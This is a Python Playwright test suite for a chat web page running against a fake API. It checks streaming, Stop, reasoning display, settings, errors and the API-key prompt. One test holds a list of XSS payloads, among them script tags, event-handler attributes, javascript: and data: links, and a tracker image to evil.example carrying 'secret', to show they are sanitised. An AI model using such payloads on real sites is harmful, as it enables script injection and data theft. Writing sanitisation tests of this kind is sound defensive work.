"""The chat page against a fake API: streaming, Stop, reasoning, markdown safety, errors, the key.
The fake stream is fed frame by frame, so each step is seen as it happens."""

from typing import Any

from ui.helpers import (
    DONE,
    canned,
    delta,
    fake_site_fixture,  # noqa: F401 - the fake_site fixture
    finish,
    fulfill_sse,
    open_chat,
    send,
    sse,
    usage,
    wait_idle,
    wait_reply_text,
)


def watch(page: Any) -> list[str]:
    """Console errors, page errors and dialogs: every test expects none."""
    seen: list[str] = []
    page.on("console", lambda m: seen.append(m.text) if m.type == "error" else None)
    page.on("pageerror", lambda e: seen.append(str(e)))
    page.on("dialog", lambda d: (seen.append(f"dialog: {d.message}"), d.dismiss()))
    return seen


def test_page_and_model_picker(page: Any, fake_site) -> None:
    fake, server = fake_site
    errors = watch(page)
    response = page.goto(server.url + "/")
    csp = response.headers["content-security-policy"]
    assert "script-src 'self'" in csp and "connect-src 'self'" in csp
    page.wait_for_function("() => document.querySelectorAll('#model option').length === 3")
    labels = page.locator("#model option").all_inner_texts()
    assert labels == ["tiny-base — loaded", "tiny-lora (adapter of tiny-base)", "other — unloaded"]
    libs = "[typeof marked.parse, typeof DOMPurify.sanitize, typeof hljs.highlightElement]"
    assert page.evaluate(libs) == ["function"] * 3
    assert errors == []


def test_stream_renders_incrementally_with_stats(page: Any, fake_site) -> None:
    fake, server = fake_site
    errors = watch(page)
    open_chat(page, server.url)
    send(page, "Say hello")
    reply = page.locator(".msg.assistant .content")
    fake.frames.put(delta("Hello"))
    wait_reply_text(page, "Hello")
    assert page.locator("#stop").is_visible() and not page.locator("#send").is_visible()
    fake.frames.put(delta(" **world**"))
    page.wait_for_selector(".msg.assistant .content strong")
    assert reply.inner_text() == "Hello world"
    for frame in (finish(), usage(prompt=11, completion=3, cached=4), DONE, None):
        fake.frames.put(frame)
    wait_idle(page)
    stats = page.locator(".msg.assistant .stats").inner_text()
    assert "prompt 11 · cached 4 · completion 3 · TTFT" in stats and "tok/s" in stats
    body = fake.bodies[0]
    assert body["stream"] is True and body["stream_options"] == {"include_usage": True}
    assert body["model"] == "tiny-base"
    assert body["messages"] == [{"role": "user", "content": "Say hello"}]
    assert set(body) == {"messages", "model", "stream", "stream_options"}  # no unset settings
    assert errors == []


def test_stop_aborts_the_request_and_keeps_the_partial_answer(page: Any, fake_site) -> None:
    fake, server = fake_site
    open_chat(page, server.url)
    send(page, "Count")
    fake.frames.put(delta("one two"))
    wait_reply_text(page, "one two")
    page.click("#stop")
    assert fake.disconnected.wait(10), "the server never saw the page drop the stream"
    wait_idle(page)
    assert page.locator(".msg.assistant .content").inner_text() == "one two"
    assert "stopped" in page.locator(".msg.assistant .stats").inner_text()


def test_settings_are_sent_only_when_set(page: Any, fake_site) -> None:
    fake, server = fake_site
    seen = fulfill_sse(page, canned(delta("ok"), finish(), DONE))
    open_chat(page, server.url)
    page.click("#settings-toggle")
    page.fill("#set-system", "Be brief.")
    page.fill("#set-temperature", "0.3")
    page.fill("#set-top_k", "20")
    page.fill("#set-seed", "7")
    page.select_option("#model", "tiny-lora")
    send(page, "hi")
    wait_idle(page)
    body = seen[0]
    assert body["messages"][0] == {"role": "system", "content": "Be brief."}
    assert (body["temperature"], body["top_k"], body["seed"]) == (0.3, 20, 7)
    assert body["model"] == "tiny-lora"
    assert not {"top_p", "min_p", "max_tokens"} & set(body)
    page.reload()  # settings are kept
    open_chat(page, server.url)
    assert page.input_value("#set-temperature") == "0.3"


def test_reasoning_from_both_delta_fields(page: Any, fake_site) -> None:
    fake, server = fake_site
    body = canned(
        delta(reasoning_content="first thought. "),
        delta(reasoning="second thought."),
        delta("The answer."),
        finish(),
        DONE,
    )
    fulfill_sse(page, body)
    open_chat(page, server.url)
    send(page, "think")
    wait_idle(page)
    block = page.locator(".msg.assistant details.reasoning")
    assert block.locator(".reasoning-body").text_content() == "first thought. second thought."
    assert page.locator(".msg.assistant .content").inner_text() == "The answer."
    assert block.get_attribute("open") is None  # folded once the answer is in
    block.locator("summary").click()
    assert block.locator(".reasoning-body").is_visible()


def test_reasoning_from_think_tags_in_content(page: Any, fake_site) -> None:
    fake, server = fake_site
    open_chat(page, server.url)
    send(page, "think")
    fake.frames.put(delta("<thi"))
    fake.frames.put(delta("nk>pondering"))
    page.wait_for_selector(".msg.assistant details.reasoning[open]")
    fake.frames.put(delta(" more</think>The "))
    fake.frames.put(delta("answer"))
    for frame in (finish(), DONE, None):
        fake.frames.put(frame)
    wait_idle(page)
    assert page.locator(".reasoning-body").text_content() == "pondering more"
    assert page.locator(".msg.assistant .content").inner_text() == "The answer"


XSS = "\n\n".join(
    [
        "Before <img src=x onerror=\"window.__xss=1;alert('img')\">",
        "<script>window.__xss=2;alert('script')</script>",
        "[click me](javascript:window.__xss=3)",
        "<a href=\"javascript:alert('a')\">raw link</a>",
        "![pic](javascript:alert('img-md'))",
        "![tracker](http://evil.example/t.png?q=secret)",
        "<iframe src=\"javascript:alert('iframe')\"></iframe>",
        "<svg onload=\"alert('svg')\"><circle r=5></circle></svg>",
        "[data](data:text/html,<script>alert('data')</script>)",
        "<details open ontoggle=\"alert('toggle')\">x</details>",
        "<form action=\"javascript:alert('form')\"><button>go</button></form>",
        "After",
    ]
)


def test_xss_payloads_are_inert(page: Any, fake_site) -> None:
    fake, server = fake_site
    errors = watch(page)
    payload = canned(delta(reasoning=XSS), delta(XSS), finish(), DONE)
    fulfill_sse(page, payload)
    open_chat(page, server.url)
    send(page, XSS)  # the user's own message is shown as text
    wait_idle(page)
    box = page.locator("#messages")
    assert "After" in box.locator(".msg.assistant .content").inner_text()
    page.click("text=click me")  # a link with its href removed: nothing runs
    page.click("text=raw link")
    page.wait_for_timeout(300)
    assert page.evaluate("window.__xss") is None
    assert errors == []  # no alert, confirm or prompt fired
    for sel in ("script", "iframe", "svg", "form", "button:has-text('go')", "img[src^='http']"):
        assert box.locator(f".content {sel}").count() == 0, sel
    for attr in ("onerror", "onload", "ontoggle", "style"):
        assert box.locator(f"[{attr}]").count() == 0, attr
    hrefs = box.locator(".content a").evaluate_all("as => as.map(a => a.getAttribute('href'))")
    assert all(h is None or h.startswith("http") for h in hrefs), hrefs
    srcs = box.locator(".content img").evaluate_all("is => is.map(i => i.getAttribute('src'))")
    assert all(s is None for s in srcs), srcs
    assert box.locator(".user-text").inner_text() == XSS


def test_code_block_highlighted_with_copy(page: Any, fake_site) -> None:
    fake, server = fake_site
    code = "```python\ndef add(a, b):\n    return a + b\n```"
    fulfill_sse(page, canned(delta(code), finish(), DONE))
    page.context.grant_permissions(["clipboard-read", "clipboard-write"], origin=server.url)
    open_chat(page, server.url)
    send(page, "code")
    wait_idle(page)
    assert page.locator("pre code.hljs .hljs-keyword").first.inner_text() == "def"
    page.click("pre .copy")
    page.wait_for_selector("pre .copy:has-text('Copied')")
    assert page.evaluate("navigator.clipboard.readText()") == "def add(a, b):\n    return a + b\n"


def test_error_mid_stream_keeps_the_partial_answer(page: Any, fake_site) -> None:
    fake, server = fake_site
    err = sse({"error": {"message": "engine died", "type": "server_error", "code": None}})
    fulfill_sse(page, canned(delta("half an "), delta("answer"), err, DONE))
    open_chat(page, server.url)
    send(page, "go")
    wait_idle(page)
    assert page.locator(".msg.assistant .content").inner_text() == "half an answer"
    assert page.locator(".msg.assistant .error").inner_text() == "Error: engine died"
    page.reload()  # the partial answer and its error were saved
    page.wait_for_selector(".msg.assistant .error")
    assert page.locator(".msg.assistant .content").inner_text() == "half an answer"


def test_api_key_prompt_on_401(page: Any, fake_site) -> None:
    fake, server = fake_site
    fake.api_key = "sekret"
    page.goto(server.url + "/")
    page.wait_for_selector("#key-dialog[open]")
    page.fill("#key-input", "sekret")
    page.click("#key-save")
    page.wait_for_function("() => document.querySelectorAll('#model option').length === 3")
    send(page, "hi")
    fake.frames.put(delta("ok"))
    for frame in (finish(), DONE, None):
        fake.frames.put(frame)
    wait_idle(page)
    assert fake.auth[-1] == "Bearer sekret" and fake.bodies
    page.reload()  # the key is kept: no prompt again
    open_chat(page, server.url)
    assert not page.locator("#key-dialog").is_visible()


def test_http_error_is_shown_and_the_next_message_works(page: Any, fake_site) -> None:
    fake, server = fake_site
    calls: list[int] = []

    def handle(route: Any) -> None:
        calls.append(1)
        if len(calls) == 1:
            err = {"error": {"message": "engine restarting", "type": "server_error"}}
            route.fulfill(status=503, json=err, headers={"Retry-After": "1"})
        else:
            route.fulfill(status=200, body=canned(delta("back"), finish(), DONE))

    page.route("**/v1/chat/completions", handle)
    open_chat(page, server.url)
    send(page, "one")
    wait_idle(page)
    assert page.locator(".msg.assistant .error").inner_text() == "Error: engine restarting"
    send(page, "two")
    page.wait_for_function("() => document.querySelectorAll('.msg.assistant').length === 2")
    wait_idle(page)
    assert page.locator(".msg.assistant .content").last.inner_text() == "back"
